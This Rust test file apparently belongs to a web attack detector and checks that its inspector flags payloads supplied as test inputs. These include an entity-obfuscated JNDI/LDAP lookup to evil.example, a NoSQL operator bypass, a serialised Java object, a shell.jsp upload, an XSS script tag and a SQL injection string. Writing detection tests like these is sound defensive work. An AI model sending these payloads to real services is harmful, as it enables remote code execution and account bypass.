//! Extraction and normalisation fixes seen through the whole inspector: alphanumeric values
//! reach the families, JSON keys with dots stay one name, zero-padded numeric entities
//! decode, multipart file names have a key of their own.

use lampyr_core::{Body, Headers, Request};
use lampyr_detect::{InspectConfig, Inspector, Location, Verdict};

fn inspect(method: &str, target: &str, headers: &[(&str, &str)], body: &str) -> Verdict {
    let (path, query) = match target.split_once('?') {
        Some((p, q)) => (p.to_string(), Some(q.to_string())),
        None => (target.to_string(), None),
    };
    let mut h = Headers::new();
    for (k, v) in headers {
        h.append(*k, *v);
    }
    let req = Request {
        method: method.into(),
        host: "api.example.com".into(),
        path,
        query,
        headers: h,
        body: Body::from_parts(body.as_bytes().to_vec(), false, body.len() as u64),
        ..Request::default()
    };
    Inspector::new(InspectConfig::default())
        .expect("rules compile")
        .inspect(&req)
}

fn rules(v: &Verdict) -> Vec<&str> {
    v.hits
        .iter()
        .chain(&v.detection_only)
        .map(|h| h.rule.as_str())
        .collect()
}

#[test]
fn alphanumeric_values_reach_the_families() {
    // A serialised Java object in base64 without `+/=`, and a NoSQL operator whose operand is
    // a plain word: both were skipped as "inert" before.
    let v = inspect("GET", "/a?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", &[], "");
    assert!(rules(&v).contains(&"java.serialized_object"), "{v:?}");
    assert!(v.is_attack());
    let v = inspect("GET", "/login?user[$ne]=admin", &[], "");
    assert!(rules(&v).contains(&"nosql.operator_bypass"), "{v:?}");
    // Plain words and numbers stay clean.
    let v = inspect("GET", "/a?q=hello&page=2&id=3f2b8c1e", &[], "");
    assert!(!v.is_attack() && v.hits.is_empty(), "{v:?}");
}

#[test]
fn json_keys_with_dots_are_one_name() {
    let v = inspect(
        "POST",
        "/api",
        &[("Content-Type", "application/json")],
        r#"{"java.lang.Runtime": "x"}"#,
    );
    let hit = v
        .hits
        .iter()
        .chain(&v.detection_only)
        .find(|h| h.rule == "java.runtime_class" || h.rule == "java.class_name")
        .unwrap_or_else(|| panic!("{v:?}"));
    assert_eq!(hit.placement.location, Location::Body);
    assert_eq!(hit.placement.field, "java.lang.Runtime");
}

#[test]
fn zero_padded_numeric_entities_decode() {
    // `&#0000000036;&#0000000123;` is `${`: the lookup is found through the padding.
    let q = "x=%26%230000000036%3B%26%230000000123%3Bjndi:ldap://evil.example/a}";
    let v = inspect("GET", &format!("/a?{q}"), &[], "");
    assert!(rules(&v).contains(&"java.jndi_lookup"), "{v:?}");
}

#[test]
fn multipart_file_names_have_their_own_key() {
    let body =
        "--XX\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"shell.jsp\"\r\n\
                Content-Type: text/plain\r\n\r\nhello\r\n--XX--\r\n";
    let v = inspect(
        "POST",
        "/upload",
        &[("Content-Type", "multipart/form-data; boundary=XX")],
        body,
    );
    let hit = v
        .hits
        .iter()
        .find(|h| h.rule == "java.jsp_upload")
        .unwrap_or_else(|| panic!("{v:?}"));
    assert_eq!(hit.placement.field, "avatar@filename");
    // The same name as part content is not an upload.
    let body =
        "--XX\r\nContent-Disposition: form-data; name=\"avatar\"\r\n\r\nshell.jsp\r\n--XX--\r\n";
    let v = inspect(
        "POST",
        "/upload",
        &[("Content-Type", "multipart/form-data; boundary=XX")],
        body,
    );
    assert!(!rules(&v).contains(&"java.jsp_upload"), "{v:?}");
}

/// A value repeated in a JSON array is inspected once (the memo of identical items) and the
/// verdict is the same as with one copy: one hit per rule, same score.
#[test]
fn repeated_identical_items_give_the_verdict_of_one() {
    let body = |n: usize| {
        let items = vec!["\"<script>alert(1)</script>\""; n].join(",");
        format!("{{\"a\":[{items}],\"b\":\"' or 1=1--\"}}")
    };
    let json = [("Content-Type", "application/json")];
    let one = inspect("POST", "/x", &json, &body(1));
    let many = inspect("POST", "/x", &json, &body(50));
    assert!(one.is_attack());
    assert!(one.hits.iter().any(|h| h.rule.starts_with("xss.")));
    assert_eq!(one, many);
}
